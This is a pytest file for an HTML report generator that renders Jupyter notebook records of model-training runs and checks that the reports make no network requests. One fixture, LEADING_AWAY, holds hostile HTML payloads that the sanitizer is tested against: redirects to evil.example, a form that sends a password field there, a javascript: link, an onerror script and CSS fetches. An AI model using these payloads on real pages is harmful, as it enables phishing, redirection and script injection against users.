"""Reports and the index show the numbers in the record. A parser opens them without a network."""

from __future__ import annotations

import json
import re
import time
from dataclasses import replace
from datetime import UTC, datetime
from html import escape
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from made_run import HOSTILE, IMAGE, RECORD, data, notebook, write_run
from page_elements import definitions_of, elements_of, texts_of
from suite.messages import containing, says

from runbook.core.checks import Check
from runbook.core.curves import loss_curve
from runbook.core.messages import CoreMessage
from runbook.core.units import show_duration
from runbook.records.engine.execute import write_record
from runbook.records.engine.execution_end import ExecutionState
from runbook.records.manifest import said_by_html, set_aside
from runbook.records.messages import RecordMessage
from runbook.records.pages.front_page import INDEX_SCORES, FrontPage, write_front_page
from runbook.records.pages.notebook_page import LARGEST_PAGE, report, seconds_taken, took_text
from runbook.records.pages.page_parts import show_value
from runbook.records.pages.runs_index import write_runs_index
from runbook.records.run_state import read_run, read_runs
from runbook.results.messages import ResultMessage
from runbook.results.scores import Change, Score
from runbook.runs.status import status_of_all

FETCHING = {"src", "srcset", "poster", "data", "action", "formaction", "background", "xlink:href"}


class Page(HTMLParser):
    """What a browser would do with a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.requests: list[str] = []
        self.ids: list[str] = []
        self.targets: list[str] = []
        self.values: dict[str, object] = {}
        self.tags: list[str] = []
        self.text = ""
        self._inside: list[str] = []
        self.feed(text)
        if re.search(r"url\(|@import", text):
            styles = " ".join(re.findall(r"url\(([^)]*)\)|@import\s+(\S+)", text)[0])
        else:
            styles = ""
        self.requests += [styles] if "//" in styles else []

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        self.tags.append(tag)
        self._inside.append(tag)
        for name, value in values.items():
            fetches = name in FETCHING or (
                name == "href" and tag in ("link", "base", "image", "use")
            )
            if fetches and not (value or "").startswith("data:"):
                self.requests.append(f"{tag} {name}={value}")
        self.ids += [values["id"]] if "id" in values else []
        self.targets += [values["href"][1:]] if values.get("href", "").startswith("#") else []
        if "data-result" in values:
            self.values[values["data-result"]] = json.loads(values["data-value"])

    def handle_endtag(self, tag):
        while self._inside and self._inside.pop() != tag:
            pass

    def handle_data(self, text):
        if not {"script", "style"} & set(self._inside):
            self.text += text


def _stream(text: str, name: str = "stdout") -> nbformat.NotebookNode:
    return nbformat.v4.new_output("stream", name=name, text=text)


def test_report_shows_the_numbers_of_its_record(tmp_path):
    run_folder = write_run(tmp_path / "runs")
    text = (run_folder / "records" / "04-training.html").read_text()
    page = Page(text)
    assert page.values == RECORD.results
    for key, value in RECORD.results.items():
        assert show_value(key, value).striptags() in page.text, key
    assert 'title="3.61803398875">3.618</span>' in text, (
        "four digits, and every one where the pointer rests"
    )
    assert "last loss" in page.text
    assert "last_loss" not in page.text
    assert "64633856" in page.text, (
        "digits are grouped by style, not by characters, so that they can be copied"
    )
    assert said_by_html(run_folder / "records" / "04-training.html") == {
        "run": "toy",
        "phase": "04-training",
        "state": "done",
        "verdict": "pass",
        "execution": RECORD.started,
    }
    for word in (
        "local",
        RECORD.commit,
        "2 min 30 s",
        "2025-11-21 06:00:00 UTC",
        "within 0.3 of ln 50304",
        "✓ pass",
    ):
        assert word in page.text


def test_report_asks_for_nothing_from_any_network():
    outputs = [
        data(text_html=HOSTILE),
        data(image_png=IMAGE.partition(",")[2]),
        data(
            **{
                "image_svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><text>1</text></svg>',
                "text_plain": "Loss falls",
            }
        ),
        data(application_javascript="alert(1)", text_plain="a script"),
        data(
            **{
                "application_vnd.jupyter.widget-view+json": {"model_id": "x"},
                "text_plain": "IntProgress(value=1)",
            }
        ),
    ]
    markdown = (
        "# T\n\n![logo](https://cdn.example.org/logo.png) and [a link](https://example.org), $x^2$"
    )
    content = notebook(*outputs, markdown=markdown)
    content.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    text = report(content, RECORD)
    page = Page(text)
    assert page.requests == []
    assert "script" not in page.tags
    assert "default-src 'none'" in text
    assert "cdn.example.org" not in text.replace('<a href="https://cdn.example.org/logo.png">', "")
    for word in ("kept", "styled", "a script", "IntProgress(value=1)", "a link"):
        assert word in page.text
    assert 'alt="Loss falls"' in text


def test_formulas_are_drawn_without_a_script_and_code_stays():
    code = "a $x$ b"
    prices = "$5 or $6"
    broken = "$\\left( x$"
    display = "$$N < 12\\, l\\, h^2$$"
    markdown = f"# T\n\nof $h$ and `{code}`, for {prices}:\n\n{display}\n\nbroken: {broken}"
    text = report(notebook(markdown=markdown), RECORD)
    assert text.count("<math") == 2 and 'display="block"' in text
    assert code in texts_of(text, "code")
    assert prices in text and broken in text
    assert "<msup><mi>h</mi><mn>2</mn></msup>" in text


LEADING_AWAY = """<meta http-equiv=refresh content='0; url=https://evil.example'><base href="https://evil.example/">
<form action="https://evil.example"><input name=password><button formaction="https://evil.example">send</button>
</form><a href="java&#9;script:alert(1)" ping="https://evil.example" target=_top>click</a>
<a href="https://example.org">kept</a><!--><base href="//evil.example">
<svg><style><meta http-equiv=refresh content="0; url=https://evil.example"></style></svg>
<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>
<p style="background:URL( //evil.example/x )"></p>
<meta
http-equiv="refresh" content="0; url=https://evil.example"/>
<iframe srcdoc="<base href=//evil.example>"></iframe></main>"""


@pytest.mark.parametrize("where", ["output", "markdown output", "text", "cell state"])
def test_a_filed_notebook_takes_no_reader_to_another_site_and_turns_no_link(where):
    content = notebook(data(text_html="<b>fine</b>"))
    cell = content.cells[1]
    if where == "output":
        cell.outputs = [data(text_html=LEADING_AWAY)]
    elif where == "markdown output":
        cell.outputs = [data(text_markdown=LEADING_AWAY)]
    elif where == "text":
        content.cells[0].source = f"# Title\n\n{LEADING_AWAY}"
    else:
        cell.metadata["papermill"] = {"status": LEADING_AWAY, "duration": LEADING_AWAY}
    text = report(content, RECORD)
    page = Page(text)
    assert page.requests == []
    assert not {"base", "form", "iframe", "script"} & set(page.tags)
    assert page.tags.count("meta") == 3, "our own: charset, viewport and what the browser may fetch"
    body = text.partition("</head>")[2]
    assert (
        re.findall(
            r"<(?:meta|base|form|iframe)|<\w[^>]*\s(?:formaction|ping|onerror|http-equiv)=",
            body,
            re.I,
        )
        == []
    )
    assert re.findall(r'<a [^>]*href="java|<p [^>]*evil', body, re.I) == []
    if where in ("output", "text"):
        assert 'href="https://example.org"' in text and ">click</a>" in text


def test_every_page_forbids_another_base_and_sending_forms(tmp_path):
    run_folder = write_run(tmp_path / "runs")
    pages = [
        *run_folder.glob("*.html"),
        *run_folder.glob("records/*.html"),
        *run_folder.parent.glob("*.html"),
    ]
    assert len(pages) == 5
    for page in pages:
        (policy,) = elements_of(
            page.read_text(), "meta", **{"http-equiv": "Content-Security-Policy"}
        )
        rules = dict(rule.split(maxsplit=1) for rule in policy.attributes["content"].split("; "))
        assert rules["base-uri"] == rules["form-action"] == rules["default-src"] == "'none'", page


def test_report_has_anchors_for_each_heading_once():
    markdown = "# A run\n\n## Does it fit?\n\ntext\n\n## Does it fit?\n\n```\n# no heading\n```\n### *Third* `level`"
    page = Page(report(notebook(markdown=markdown), RECORD))
    assert len(page.ids) == len(set(page.ids))
    assert {target for target in page.targets if target} <= set(page.ids)
    assert "Does-it-fit?-2" in page.ids
    assert page.tags.count("nav") == 1


CODE = {"class": "code"}


def test_code_is_folded_and_open_where_it_failed():
    content = notebook(_stream("fine"))
    failed = nbformat.v4.new_code_cell(
        "1/0", execution_count=2, metadata={"papermill": {"status": "failed"}}
    )
    trace = ["\x1b[31mZeroDivisionError\x1b[39m: division by zero"]
    failed.outputs = [
        nbformat.v4.new_output(
            "error", ename="ZeroDivisionError", evalue="division by zero", traceback=trace
        )
    ]
    marker = nbformat.v4.new_markdown_cell('<span id="papermill-error-cell">here</span>')
    marker.metadata["tags"] = ["papermill-error-cell-tag"]
    announcement = "An Exception was encountered"
    banner = nbformat.v4.new_markdown_cell(
        f"<span>{announcement}</span>", metadata=dict(marker.metadata)
    )
    content.cells = [banner, *content.cells, marker, failed]
    record = replace(
        RECORD,
        state=ExecutionState.FAILED,
        verdict="fail",
        reason="ZeroDivisionError: division by zero <now>",
    )
    text = report(content, record)
    assert ["open" in part.attributes for part in elements_of(text, "details", **CODE)] == [
        False,
        True,
    ]
    assert text.index('role="alert"') < text.index("<main>"), "the failure stands on top"
    (alert,) = elements_of(text, "div", role="alert")
    assert record.reason in alert.text
    assert 'href="#papermill-error-cell"' in text
    assert announcement not in text
    assert 'class="ansi-red-fg"' in text


def folded_checks(text: str) -> list[tuple[int, int, bool]]:
    """Return for each fold the number of checks in it, the total, and whether it is open."""
    folds = []
    for fold in elements_of(text, "details"):
        match = re.match(r"\s*(\d+) of (\d+) checks", fold.text)
        if match:
            folds.append((int(match[1]), int(match[2]), "open" in fold.attributes))
    return folds


def test_checks_that_did_not_pass_stand_open_above_many_that_did():
    many = tuple(Check(f"rule {n}", "pass", "1", "1") for n in range(30))
    text = report(
        notebook(), replace(RECORD, checks=(*many, Check("loss", "warn", "9", "below 8")))
    )
    assert folded_checks(text) == [(30, 31, False)]
    assert text.index("below 8") < text.index("<details")
    assert folded_checks(report(notebook(), RECORD)) == [(1, 1, True)]


def test_large_outputs_are_cut_short_with_a_word_about_it():
    long = "".join(f"line {n}\n" for n in range(300_000))
    figures = [data(image_png="A" * 900_000, text_plain="<Figure>") for _ in range(5)]
    text = report(notebook(_stream(long), *figures), RECORD)
    assert len(text.encode()) < LARGEST_PAGE
    assert "line 0\n" in text
    assert "line 299999\n" in text
    cut = re.search(r"\.\.\. (29\d,\d{3}) lines \(([\d,]+) characters\)", text)
    lines, characters = (int(number.replace(",", "")) for number in cut.groups())
    assert RecordMessage.LINES_IN_NOTEBOOK.fill(lines=lines, characters=characters) in text
    assert RecordMessage.OUTPUT_TOO_LARGE.fill(kind="image/png") in text


def test_report_fits_phone_paper_and_dark_rooms():
    text = report(notebook(), RECORD)
    assert 'name="viewport"' in text
    assert "@media print" in text
    assert "prefers-color-scheme: dark" in text
    assert '<html lang="en">' in text


def test_campaign_shows_phases_curve_sample_and_plan_against_actual(tmp_path):
    run_folder = write_run(tmp_path / "runs")
    text = (run_folder / "index.html").read_text()
    page = Page(text)
    assert page.requests == []
    for word in ("00-plan", "05-analysis", "not run"):
        assert word in page.text
    answer = RecordMessage.ANSWER.of(
        progress=RecordMessage.PHASES_DONE.of(done=1, phases=7),
        problems=RecordMessage.ALL_CHECKS_PASSED.of(checks="1 check"),
    )
    assert str(answer) in page.text
    assert elements_of(text, "h2", id="plan")
    assert "planned 8000" in page.text
    assert page.text.count("+12.5%") == 1, "9000.5 by 8000"
    assert page.values["04-training.last_loss"] == RECORD.results["last_loss"]
    assert text.count("<svg") == 1
    assert [spark[0] for spark in texts_of(text, "span", role="img")] == ["█"]
    assert page.tags.count("script") == 2, "the losses as data, and what draws them"
    assert read_run(run_folder).verdict == "unknown", "one good phase of seven is not a good run"
    (title,) = texts_of(text, "title")[1:]
    assert says(
        title, CoreMessage.CURVE_FROM_TO, name=containing("training loss"), first=10.8, last=3.672
    )
    for target in (
        "records/04-training.html",
        "records/04-training.ipynb",
        "records/04-training.json",
    ):
        assert f'href="{target}"' in text
        assert (run_folder / target).exists()
    row = {
        "phase": "04-training",
        "what": "wall time (s)",
        "planned": 60.0,
        "actual": 66.4,
        "ratio": 66.4 / 60,
    }
    outcome = FrontPage(
        ("the <b>of</b>", "Alice was"), [row], [("Speed", "9,001 tokens/s", "113% of the plan")]
    )
    shown = Page(write_front_page(run_folder, outcome).read_text()).text
    assert "the <b>of</b>" in shown
    assert "Alice was" in shown
    (wall_time,) = re.findall(r"wall time(.+?), planned (.+?) \((.+?)\)", shown)
    assert wall_time == (show_duration(66.4), show_duration(60), "+10.7%")
    assert "9,001 tokens/s" in shown


SCORES = [
    {"what": "corpus", "measure": "bits per byte", "samples": 18, "before": 4.59, "after": 3.5},
    {
        "what": "all minimal pairs",
        "measure": "right (share)",
        "samples": 200,
        "before": 0.44,
        "after": 0.31,
    },
    {
        "what": "participle",
        "measure": "right of this kind (share)",
        "samples": 20,
        "before": 0.4,
        "after": 0.1,
    },
]


def test_scores_are_on_the_front_page_and_a_fall_is_said(tmp_path):
    run_folder = write_run(tmp_path / "runs")
    text = write_front_page(run_folder, FrontPage(scores=SCORES)).read_text()
    card, _, sections = text.partition("</header>")
    (tiles,) = elements_of(card, "dl", **{"class": "tiles"})
    assert re.search(r"Bits per byte\s*3\.5\s*better, from 4\.59", tiles.text)
    assert re.search(r"Minimal pairs right\s*0\.31\s*worse, from 0\.44", tiles.text)
    (fall,) = texts_of(card, "p", **{"class": "worse"})
    assert says(
        fall,
        ResultMessage.WORSE_AFTER_TRAINING,
        what="all minimal pairs",
        measure="right (share)",
        before="0.44",
        after="0.31",
    )
    assert "participle" not in card
    assert elements_of(sections, "h2", id="scores")
    assert elements_of(write_front_page(run_folder).read_text(), "h2", id="scores") == []


def test_a_fall_that_chance_explains_is_no_warning(tmp_path):
    """If 44 % of 200 pairs are right, another draw may differ by up to 9.7 %."""
    run_folder = write_run(tmp_path / "runs")
    fall = {**SCORES[1], "after": 0.395}
    card = write_front_page(run_folder, FrontPage(scores=[fall])).read_text()
    (tiles,) = elements_of(card, "dl", **{"class": "tiles"})
    assert re.search(r"Minimal pairs right\s*0\.395\s*within chance, from 0\.44", tiles.text)
    assert elements_of(card, "p", **{"class": "worse"}) == []
    changes = [Score(**{**fall, "after": after}).change for after in (0.347, 0.342, 0.535, 0.55)]
    assert changes == [Change.WITHIN_CHANCE, Change.WORSE, Change.WITHIN_CHANCE, Change.BETTER]


def test_scores_are_in_the_index_of_all_runs(tmp_path):
    runs = tmp_path / "runs"
    run_folder = write_run(runs)
    (run_folder / "evaluation").mkdir()
    lines = "".join(json.dumps(row) + "\n" for row in SCORES)
    (run_folder / "evaluation" / "built-in.jsonl").write_text(lines)
    text = write_runs_index(runs).read_text()
    heads = texts_of(text, "th")
    cells = [cell.split() for cell in texts_of(text, "td")]
    (row,) = [dict(zip(heads, cells, strict=True))]
    pairs = INDEX_SCORES["right (share)"]
    bits = INDEX_SCORES["bits per byte"]
    assert row[pairs] == ["0.44", "→", "0.31", "!", "worse"]
    assert row[bits] == ["4.59", "→", "3.5", "better"]


def test_the_time_of_all_phases_says_which_executions_it_counts(tmp_path):
    run_folder = write_run(tmp_path / "runs")
    newest = RecordMessage.NEWEST_EXECUTIONS.fill(duration="2 min 30 s")
    name = RecordMessage.ALL_PHASES_TOOK.fill()
    facts = definitions_of((run_folder / "index.html").read_text())
    assert facts[name] == newest
    write_run(tmp_path / "other")
    set_aside(run_folder, "04-training")
    for suffix in (".json", ".ipynb", ".html"):
        file = f"04-training{suffix}"
        (run_folder / "records" / file).write_bytes(
            (tmp_path / "other/toy/records" / file).read_bytes()
        )
    earlier = RecordMessage.EARLIER_EXECUTIONS.fill(duration="5 min", number="one earlier")
    facts = definitions_of(write_front_page(run_folder).read_text())
    assert facts[name] == newest + earlier


def test_a_check_that_a_later_phase_answered_is_not_unknown_any_more(tmp_path):
    unknown = Check("text read once", "unknown", "tokens wanted", "at most once")
    other = Check("tokenizer", "pass", "gpt2", "it fits")
    plan = {"phase": "00-plan", "verdict": "unknown", "checks": (unknown, other)}
    run_folder = write_run(tmp_path / "runs", **plan)
    before = read_run(run_folder).phases[0].record
    assert (before.verdict, before.checks) == ("unknown", (unknown, other))
    for verdict in ("unknown", "warn"):
        answer = replace(unknown, verdict=verdict)
        counted = {"phase": "02-data", "verdict": verdict, "checks": (answer,)}
        record = replace(RECORD, run="toy", **counted)
        write_record(notebook(), record, run_folder)
        plan_phase, _, data_phase = read_run(run_folder).phases[:3]
        is_answered = verdict != "unknown"
        assert plan_phase.record.checks == ((other,) if is_answered else (unknown, other))
        assert plan_phase.record.verdict == ("pass" if is_answered else "unknown")
        assert data_phase.record.checks == (answer,)


def test_campaign_and_index_survive_a_broken_record_and_an_open_one(tmp_path):
    run_folder = write_run(tmp_path / "runs")
    (run_folder / "records" / "02-data.json").write_text("{}")
    write_front_page(run_folder)
    run = read_run(run_folder)
    assert (run.state, run.verdict) == ("unreadable", "fail")
    assert says(
        Page((run_folder / "index.html").read_text()).text,
        CoreMessage.RECORD_UNREADABLE,
        path=run_folder / "records" / "02-data.json",
        problem=containing("schema"),
    )
    (run_folder / "records" / "02-data.json").unlink()
    path = run_folder / "records" / "04-training.json"
    path.write_text(
        path.read_text()
        .replace('"ended": "2025-11-21T06:02:30.000000Z"', '"ended": ""')
        .replace('"done"', '"interrupted"')
    )
    assert read_run(run_folder).state == "interrupted"
    (run_folder / "lock.json").write_text("{}")
    assert read_run(run_folder).state == "running"
    (run_folder / "lock.json").unlink()
    job = run_folder / "jobs" / "04-training-2"
    job.mkdir(parents=True)
    (job / "job.json").write_text("{}")
    (job / "heartbeat").write_text(f"{time.time():.0f} 0 another-machine\n")
    assert read_run(run_folder).state == "running", "nobody looks, but its job goes on"
    (job / "heartbeat").write_text(f"{time.time() - 600:.0f} 0 another-machine\n")
    assert read_run(run_folder).state == "interrupted"


def test_a_phase_that_failed_with_its_killed_job_is_not_running(tmp_path):
    run_folder = write_run(tmp_path / "runs")
    path = run_folder / "records" / "04-training.json"
    ended = datetime.now(UTC)
    path.write_text(
        path.read_text()
        .replace("2025-11-21T06:02:30.000000Z", ended.strftime("%Y-%m-%dT%H:%M:%S.%fZ"))
        .replace('"done"', '"failed"')
    )
    job = run_folder / "jobs" / "04-training-2"
    job.mkdir(parents=True)
    (job / "job.json").write_text("{}")
    (job / "heartbeat").write_text(f"{ended.timestamp() - 20:.0f} 0 another-machine\n")
    assert read_run(run_folder).state == "failed", "killed before it could write an exit code"
    (job / "heartbeat").write_text(f"{ended.timestamp() - 2:.0f} 0 another-machine\n")
    assert read_run(run_folder).state == "running", "another cell failed, but the job goes on"


@pytest.mark.parametrize(
    ("broken", "state", "said"),
    [
        ({"run.yaml": "run: [half\n"}, "unreadable", "run.yaml:"),
        ({"run.yaml": "\xff\xfe"}, "unreadable", "is not UTF-8"),
        ({"run.yaml": ""}, "unreadable", "is empty"),
        ({"plan.json": "{"}, "no run.yaml", "run.yaml is missing"),
        ({"run.yaml.part": "run: x"}, "no run.yaml", "run.yaml is missing"),
        ({"run.yaml": "run: x\n", "records/00-plan.json": '{"schema": 1'}, "unreadable", ""),
        ({"run.yaml": "run: x\n", "records/00-plan.json": "\x00" * 64}, "unreadable", ""),
        ({"run.yaml": "run: x\n", "records/00-plan.json": "moment"}, "unreadable", ""),
        (
            {"run.yaml": "run: x\n", "lock.json": "{", "metrics.jsonl": '{"iteration": 1, "lo'},
            "not run",
            "",
        ),
    ],
)
def test_a_broken_or_half_written_folder_is_listed_as_what_it_is(tmp_path, broken, state, said):
    runs = tmp_path / "runs"
    write_run(runs, "whole")
    record = json.loads((runs / "whole" / "records" / "04-training.json").read_text())
    for name, text in broken.items():
        path = runs / "broken <b>" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        text = json.dumps(record | {"started": "long ago"}) if text == "moment" else text
        path.write_bytes(text.encode("latin-1"))
    text = write_runs_index(runs).read_text()
    page = Page(text)
    run = next(run for run in read_runs(runs) if run.name == "broken <b>")
    assert (run.state, said in run.problem) == (state, True)
    assert f"broken <b>{state}{run.problem}" in page.text
    assert 'href="broken%20%3Cb%3E/"' in text
    assert "whole" in page.text
    assert read_run(runs / "whole").state == RecordMessage.STATES_DONE.fill(done=1, phases=7)
    listed = [line.split("  ")[0] for line in status_of_all(runs).splitlines()[2:]]
    assert [name for name in listed if name] == ["broken <b>", "whole"]
    write_front_page(runs / "broken <b>")


def test_a_loss_that_is_no_number_is_listed_as_that(tmp_path):
    write_run(
        tmp_path, results={"first_loss": 10.8, "last_loss": "nan", "tokens_per_second": "inf"}
    )
    assert status_of_all(tmp_path).endswith("loss 10.80 to nan, inf tokens/s")
    text = write_runs_index(tmp_path).read_text()
    assert texts_of(text, "td", **{"data-sort": "nan"}) == ["nan"]


def test_index_lists_every_run_newest_first_and_needs_no_server(tmp_path):
    runs = tmp_path / "runs"
    write_run(runs, "old")
    bad = (Check("loss", "fail", "nan", "finite"),)
    write_run(
        runs,
        "new",
        started="2025-11-22T06:00:00.000000Z",
        ended="2025-11-22T06:01:00.000000Z",
        checks=bad,
        verdict="fail",
    )
    (runs / "not-a-run").mkdir()
    page = Page(write_runs_index(runs).read_text())
    assert page.requests == []
    assert [run.name for run in read_runs(runs)] == ["new", "old"]
    assert page.text.index("new") < page.text.index("old")
    for word in ("1 of 7", "✗ fail", "3.618", "64633856", "04-training"):
        assert word in page.text
    assert "not-a-run" not in page.text
    assert "of 6" not in page.text, "the column counts the same phases as the state"
    assert page.tags.count("button") == 13
    empty = Path(write_runs_index(tmp_path / "empty")).read_text()
    assert RecordMessage.NO_RUN_YET.fill() in empty
    assert elements_of(empty, "table") == []


@pytest.mark.parametrize("points", [[], [(1, 2.0)], [(1, float("nan")), (2, None)]])
def test_nothing_is_drawn_where_there_is_no_curve(points):
    assert loss_curve([("a", points)]) == ""


def test_curve_keeps_its_ends_and_stays_small():
    points = [(n, 10 / n) for n in range(1, 200_001)]
    name = "a & b"
    drawn = loss_curve([(name, points), ("flat", [(1, 2.0), (2, 2.0)])])
    assert len(drawn) < 40_000
    (title,) = texts_of(str(drawn), "title")[:1]
    assert says(title, CoreMessage.CURVE_FROM_TO, name=containing(name), first=10.0, last=5e-05)
    assert f">{escape(name)}<" in drawn
    assert CoreMessage.LOSS_AXIS.fill() in texts_of(str(drawn), "text")
    Page(str(drawn))


def test_an_execution_during_which_the_clock_was_set_back_took_no_negative_time():
    set_back = replace(RECORD, ended="2025-11-21T05:00:00.000000Z")
    assert took_text(set_back) == RecordMessage.CLOCK_SET_BACK.fill()
    assert seconds_taken(set_back) == 0, "the total of a report must not shrink"
    assert took_text(RECORD) == "2 min 30 s"
    assert took_text(replace(RECORD, ended="")) == ""
